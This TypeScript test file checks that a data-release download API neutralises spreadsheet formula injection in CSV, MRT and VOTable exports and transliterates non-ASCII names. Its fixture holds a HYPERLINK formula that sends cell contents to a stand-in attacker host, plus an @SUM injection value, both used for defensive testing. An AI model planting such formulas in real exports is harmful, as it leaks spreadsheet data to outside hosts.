import { unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { closeDatabase, createTestContext, type TestContext } from '../helpers/context'
import { signedInPerson, type Person } from '../helpers/review'
import { frozenRelease, makeCampaign } from '../helpers/world'

/** The fixed-width table comes as a zip of the data file and its ReadMe: both, as ASCII text. */
const unzippedText = (zip: Buffer) =>
  Object.values(unzipSync(new Uint8Array(zip)))
    .map((b) => Buffer.from(b).toString('ascii'))
    .join('\n')

let t: TestContext
let lead: Person
let releaseId: number

beforeAll(async () => {
  t = await createTestContext()
  lead = await signedInPerson(t.app, 'lead', 'Export Lead')
  const campaign = await makeCampaign('EX')
  releaseId = (
    await frozenRelease(campaign, lead, [
      { SpId: 1, Object: '=HYPERLINK("http://evil.example/?"&A1,"Click")', DecidedBy: '@SUM(1+1)' },
      { SpId: 2, Object: 'ζ Oph', DecidedBy: 'Zoë Ødegaard' },
    ])
  ).id
})
afterAll(async () => {
  await t.close()
  await closeDatabase()
})

const download = async (format: string) =>
  (
    await lead.client.agent
      .get(`/api/releases/${releaseId}/download?format=${format}`)
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = []
        res.on('data', (c: Buffer) => chunks.push(c))
        res.on('end', () => cb(null, Buffer.concat(chunks)))
      })
      .expect(200)
  ).body as Buffer

describe('release downloads', () => {
  it('never hand a spreadsheet a formula, in any text format', async () => {
    const csv = (await download('csv')).toString('utf8')
    const rows = csv.split('\r\n').filter((l) => l && !l.startsWith('#'))
    expect(rows[1]).toMatch(/^1,"'=HYPERLINK\(/)
    expect(rows[1]).toContain(",'@SUM(1+1),")
    expect(csv).not.toMatch(/(^|,)"?[=@]/m)
    const mrt = unzippedText(await download('mrt'))
    expect(mrt).toContain("'=HYPERLINK(")
    expect(mrt).not.toMatch(/ =HYPERLINK/)
    const vot = (await download('votable')).toString('utf8')
    expect(vot).toContain('&apos;=HYPERLINK(')
  })

  it('keep non-ASCII names readable: UTF-8 where the format allows, transliterated with a note elsewhere', async () => {
    const fits = (await download('fits')).toString('latin1')
    expect(fits).toContain('zet Oph')
    expect(fits).toContain('Zoe Odegaard')
    expect(fits).toContain('transliterated')
    const mrt = unzippedText(await download('mrt'))
    expect(mrt).toContain('zet Oph')
    expect(mrt).toContain('Zoe Odegaard')
    expect(mrt).toMatch(/transliterated/)
    expect(mrt).not.toContain('? Oph')
    expect((await download('csv')).toString('utf8')).toContain('ζ Oph')
    expect((await download('votable')).toString('utf8')).toContain('Zoë Ødegaard')
  })
})
